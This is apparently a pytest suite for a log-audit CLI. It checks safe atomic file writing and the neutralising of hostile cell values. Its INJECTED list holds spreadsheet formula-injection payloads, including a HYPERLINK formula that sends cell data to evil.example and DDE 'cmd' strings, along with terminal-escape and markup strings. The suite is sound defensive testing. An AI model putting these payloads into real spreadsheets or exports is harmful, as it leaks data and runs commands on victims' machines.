"""Hostile output: where the tool writes, and what it writes.

* The one private atomic writer (surfaudit.atomic) behind `report --output`, `export`
  and `init`: a planted `.F.tmp` (a symlink, or a 0666 file of another user) is never
  written through; a symlink at the target is replaced, not followed; a FIFO and
  `/dev/stdout` stay streams; a missing directory, a directory and an unwritable place
  are one line naming the path, exit 2, nothing left behind; files are 0600 under
  umask 000; `--output r.csv` without `--format` writes CSV.
* Data is text: identities named `[/b]`, `[link=...]` or holding escape codes are
  shown literally (escaped) by `report social` and `audit`; every CSV the tool writes
  (report, audit, export) neutralises the formula-like cells of INJECTED, which the
  test prints; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from .helpers import SP_HEADER, assert_clean_stderr, failed, run_cli, tried, write_lines

UTC = timezone.utc
NOW = "2026-11-20T12:00:00+00:00"
T0 = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)  # a Monday, in work hours
RANGE = ("--from", "2026-11-01", "--to", "2026-11-30")

# Cells a spreadsheet could run as a formula (OWASP's list, widened).
INJECTED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "   =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060=1+1", "\u3000=1+1", "\u2003+1",
    "'=1+1", '"=1+1"', "\u201c=1+1\u201d", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    " \u00a0\u200b\"\uff1d1+1", "\u2212 1", "\ufe661+1",
]
SAFE = ["hello", "10.0.0.1", "2026-01-01", "o'brien", "a=b", "(none)", "www.example.org", "x-1", "1-2", "-"]
# Identities that rich would read as markup, a hyperlink, or that carry terminal escapes.
MARKUP = ["[/b]", "[link=http://evil.example]click me[/link]", "[bold red]shout", "\x1b[31mred\x1b[0m",
          "bell\x07", "over\rwrite", "\u202eevil"]

_LEAD = set(" \t\r\n\u00a0\u200b\u200c\u200d\u2060\ufeff\u3000\u2000\u2001\u2002\u2003\u2009\u202f"
            "'\"\u2018\u2019\u201c\u201d\uff02\uff07")
_TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212\ufe66\ufe62\ufe63\ufe6b")


def dangerous(cell: str, raw: bool = False) -> bool:
    """The test's own reading (independent of surfaudit.safetext): after leading
    spaces/invisible characters/quotes, does the cell start like a formula? In output,
    a cell starting with the apostrophe is text to a spreadsheet (neutralised)."""
    if (cell.startswith("'") and not raw) or cell == "-":  # a lone "-" is text to a spreadsheet
        return False
    i = 0
    while i < len(cell) and cell[i] in _LEAD and cell[i] not in _TRIGGERS:
        i += 1
    return i < len(cell) and cell[i] in _TRIGGERS


def test_the_injected_list_is_printed_and_all_neutralised(capsys):
    from surfaudit.safetext import neutralise

    with capsys.disabled():
        print("\nINJECTED:")
        for s in INJECTED:
            print(f"  {s!r} -> {neutralise(s)!r}")
    for s in INJECTED:
        assert dangerous(s, raw=True), s  # the test's own rule sees each as a formula
        assert neutralise(s) == "'" + s, s
        tried("hostile-output", "injected strings")
    for s in SAFE:
        assert neutralise(s) == s, s


def test_numbers_are_never_neutralised():
    import polars as pl

    from surfaudit.safetext import neutralise_frame

    df = pl.DataFrame({"user": ["-5", "ok"], "requests": [-5, 3], "minutes": [-1.5, 2.0]})
    got = neutralise_frame(df)
    assert got["requests"].to_list() == [-5, 3] and got["minutes"].to_list() == [-1.5, 2.0]
    assert got["user"].to_list() == ["'-5", "ok"]


def test_a_frame_is_neutralised_cell_by_cell():
    """neutralise_frame calls Python only for cells not starting with an ASCII letter or
    digit, once per distinct cell: the result must be neutralise() of every cell."""
    import random

    import polars as pl

    from surfaudit.safetext import neutralise, neutralise_frame

    rng = random.Random(15)
    alphabet = "=+-@ \t\r\n'\"\u200b\u00a0\u2212\uff1d\ufe62\u202eaZ9_.é"
    cells = INJECTED + SAFE + [None, "", None] + [
        "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5))) for _ in range(3000)]
    cells += cells[:50]  # repeats go through the same mapping
    got = neutralise_frame(pl.DataFrame({"cell": cells}, schema={"cell": pl.String}))["cell"].to_list()
    assert got == [None if c is None else neutralise(c) for c in cells]


# -- a store holding hostile identities and categories ---------------------------------------

def _sp_row(ts: datetime, user: str, category: str, n: int, host: str = "www.facebook.com") -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(
        [ts.strftime("%Y-%m-%dT%H:%M:%SZ"), user, "10.0.0.9", f"https://{host}/s{n}", category, "allowed"])
    return buf.getvalue()


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    lines, n = [SP_HEADER], 0
    for i, value in enumerate(INJECTED):
        if "\r" in value or "\n" in value:
            continue  # a line break inside a field is not a log line; tested through --reason
        for k in range(2):
            lines.append(_sp_row(T0 + timedelta(minutes=n), value, value, n))
            n += 1
    for value in MARKUP:
        for k in range(3):
            lines.append(_sp_row(T0 + timedelta(minutes=n), value, "Social", n))
            n += 1
    src = write_lines(base / "export.csv", lines)
    store = base / "store"
    run = run_cli("--store", str(store), "ingest", str(src), now=NOW)
    assert_clean_stderr(run, (0, 1))
    return store


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def _check_csv(what: str, text: str) -> int:
    bad = [c for c in _cells(text) if dangerous(c)]
    for c in bad:
        failed("hostile-output", f"{what}: formula-like cell {c!r}")
    tried("hostile-output", "CSV outputs checked")
    assert not bad, (what, bad)
    return len(_cells(text))


@pytest.mark.parametrize("args", [("social",), ("top", "--by", "category", "--limit", "100"),
                                  ("top", "--by", "user", "--limit", "100"), ("blocked",), ("top", "--by", "host")])
def test_report_csv_neutralises_formulas(hostile_store, args):
    run = run_cli("--store", str(hostile_store), "report", *args, *RANGE, "--format", "csv", now=NOW)
    assert run.code == 0 and run.err == "", run.err
    _check_csv(f"report {' '.join(args)}", run.out)
    if args[0] == "top" and args[2] == "category":
        cells = set(_cells(run.out))
        assert "'=1+1" in cells and "'\uff1d1+1" in cells and "'@SUM(1+1)" in cells  # kept, as text


def test_audit_and_export_csv_neutralise_formulas(hostile_store, tmp_path):
    for i, user in enumerate(["=1+1", "@sum(1+1)", "\uff1d1+1"]):  # identities are stored lower-cased
        reason = INJECTED[i * 7 % len(INJECTED)] + " reason"
        out = tmp_path / f"inv{i}.csv"
        run = run_cli("--store", str(hostile_store), "export", "--user", user, "--reason", reason, *RANGE,
                      "--output", str(out), now=NOW)
        assert run.code == 0, run.err
        _check_csv(f"export --user {user!r}", out.read_bytes().decode("utf-8"))
    for reason in ("\r=1+1", "\n=1+1", "\t=1+1", "=HYPERLINK(\"http://x\")"):
        run = run_cli("--store", str(hostile_store), "export", "--user", "=1+1", "--reason", reason, *RANGE,
                      "--output", str(tmp_path / "again.csv"), now=NOW)
        assert run.code == 0, run.err
    run = run_cli("--store", str(hostile_store), "audit", "--format", "csv", now=NOW)
    assert run.code == 0 and run.err == "", run.err
    _check_csv("audit --format csv", run.out)
    assert "'=1+1" in _cells(run.out)  # the target, neutralised


# -- markup and escape codes in terminal tables ----------------------------------------------

def test_markup_and_escapes_are_shown_as_text(hostile_store, tmp_path):
    for user in ("[/b]", "[link=http://evil.example]click me[/link]", "\x1b[31mred\x1b[0m"):
        run = run_cli("--store", str(hostile_store), "export", "--user", user, "--reason", "[/i] [link=x]y[/link]",
                      *RANGE, "--output", str(tmp_path / "m.html"), now=NOW)
        assert run.code == 0, run.err
    env = {"FORCE_COLOR": "1", "NO_COLOR": ""}  # a terminal: links and colours would be live
    for args in (("report", "social", *RANGE), ("audit",)):
        for extra in ({}, env):
            run = run_cli("--store", str(hostile_store), *args, now=NOW, env=extra)
            assert run.code == 0, f"{args}: exit {run.code}: {run.err[-500:]}"
            assert "Traceback" not in run.err and "MarkupError" not in run.err
            text = run.out
            assert "\x1b]8;" not in text, args  # no live hyperlink
            if not extra:
                assert "[/b]" in text, args
                assert "[link=http://evil.example]" in text, args
                assert "\\x1b[31mred" in text, args  # shown escaped
                assert "\x1b" not in text, args  # no raw escape at all without colours
            else:  # (a forced terminal is 80 columns wide here: long names are cut short)
                assert "\x1b[31mred" not in text, args
            assert "\x07" not in text and "\r" not in text and "\u202e" not in text, args
            tried("hostile-output", "terminal tables")


# -- the writer ------------------------------------------------------------------------------

def _report(store: Path, *extra: str, **kw):
    return run_cli("--store", str(store), "report", "social", *RANGE, *extra, now=NOW, **kw)


def test_planted_temp_names_are_never_written_through(hostile_store, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / ".r.csv.tmp").symlink_to(victim)
    planted = tmp_path / ".s.csv.tmp"
    planted.write_text("someone else's")
    os.chmod(planted, 0o666)
    os.chown(planted, 65534, 65534)
    for name in ("r.csv", "s.csv"):
        run = _report(hostile_store, "--output", str(tmp_path / name))
        assert run.code == 0, run.err
        assert (tmp_path / name).read_text().startswith("user,date,")
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
        assert (tmp_path / name).stat().st_uid == os.geteuid()
    assert victim.read_text() == "precious"
    assert planted.read_text() == "someone else's"
    tried("hostile-output", "planted temp files")


def test_a_symlink_at_the_target_is_replaced_not_followed(hostile_store, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    link = tmp_path / "r.csv"
    link.symlink_to(victim)
    run = _report(hostile_store, "--output", str(link))
    assert run.code == 0, run.err
    assert not link.is_symlink() and link.read_text().startswith("user,date,")
    assert victim.read_text() == "precious"


def test_streams_stay_streams(hostile_store, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got = {}
    reader = threading.Thread(target=lambda: got.setdefault("data", fifo.read_text()))
    reader.start()
    run = _report(hostile_store, "--format", "csv", "--output", str(fifo))
    reader.join(timeout=60)
    assert run.code == 0, run.err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and got["data"].startswith("user,date,")
    def link(st):  # the symlink itself (its atime moves whenever anything resolves it)
        return st.st_ino, st.st_dev, st.st_mode, st.st_mtime_ns

    for target in ("/dev/stdout", "-", "/dev/fd/1"):
        before = os.lstat("/dev/stdout")
        run = _report(hostile_store, "--format", "csv", "--output", target, subprocess_=True)  # a real fd 1
        assert run.code == 0, run.err
        assert run.out.startswith("user,date,"), target
        assert link(os.lstat("/dev/stdout")) == link(before) and stat.S_ISLNK(before.st_mode)
    run = _report(hostile_store, "--format", "csv", "--output", "/dev/null")
    assert run.code == 0 and run.out == "" and stat.S_ISCHR(os.stat("/dev/null").st_mode)
    tried("hostile-output", "stream targets", 5)


@pytest.mark.parametrize("case", ["missing directory", "a directory", "parent is a file", "unwritable", "block device"])
def test_bad_places_are_one_line_exit_2_nothing_left(hostile_store, tmp_path, case):
    place = tmp_path / "place"
    place.mkdir()
    target = {"missing directory": place / "nope" / "r.csv", "a directory": place / "adir",
              "parent is a file": place / "file.txt" / "r.csv", "unwritable": Path("/proc/r.csv"),
              "block device": None}[case]
    if case == "a directory":
        target.mkdir()
    if case == "parent is a file":
        (place / "file.txt").write_text("x")
    if case == "block device":
        devices = [p for p in Path("/dev").iterdir() if p.is_block_device()]
        if not devices:
            pytest.skip("no block device")
        target = devices[0]
    before = sorted(place.rglob("*"))
    run = _report(hostile_store, "--output", str(target))
    assert run.code == 2, (case, run.code, run.err)
    assert run.out == "" and run.err.count("\n") == 1 and run.err.startswith("surfaudit: error:")
    assert "internal error" not in run.err
    assert str(target if case not in ("missing directory", "parent is a file") else target.parent) in run.err
    assert sorted(place.rglob("*")) == before  # nothing left behind (no .adir.tmp)
    tried("hostile-output", "refused places")


@pytest.mark.parametrize("name,starts", [("r.csv", "user,date,"), ("r.json", "{"), ("r.txt", "social report"),
                                         ("r", "social report")])
def test_format_follows_the_extension(hostile_store, tmp_path, name, starts):
    run = _report(hostile_store, "--output", str(tmp_path / name))
    assert run.code == 0, run.err
    text = (tmp_path / name).read_text()
    assert text.startswith(starts), text[:80]
    if not name.endswith((".csv", ".json")):  # (CSV and JSON keep the data exactly; JSON escapes it)
        assert "\x1b" not in text


def test_written_files_are_private_under_umask_000(hostile_store, tmp_path):
    run = run_cli("init", str(tmp_path / "surfaudit.toml"), umask=0)
    assert run.code == 0, run.err
    run = run_cli("--store", str(hostile_store), "export", "--user", "[/b]", "--reason", "r", *RANGE,
                  "--output", str(tmp_path / "inv.html"), now=NOW, umask=0)
    assert run.code == 0, run.err
    run = run_cli("--store", str(hostile_store), "report", "social", *RANGE, "--output", str(tmp_path / "r.csv"),
                  now=NOW, umask=0)
    assert run.code == 0, run.err
    for name in ("surfaudit.toml", "inv.html", "r.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inv.html", "r.csv", "surfaudit.toml"]
    again = run_cli("init", str(tmp_path / "surfaudit.toml"))
    assert again.code == 2 and "exists" in again.err


def test_file_names_with_escape_codes_are_shown_escaped(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "x\x1b[31mred\x07.log").write_text("hello\nnot a log\n")
    run = run_cli("--store", str(tmp_path / "store"), "nightly", str(logs), now=NOW)
    assert "Traceback" not in run.err
    assert "\x1b" not in run.out and "\x07" not in run.out, run.out
    assert "x\\x1b[31mred\\x07.log" in run.out, run.out
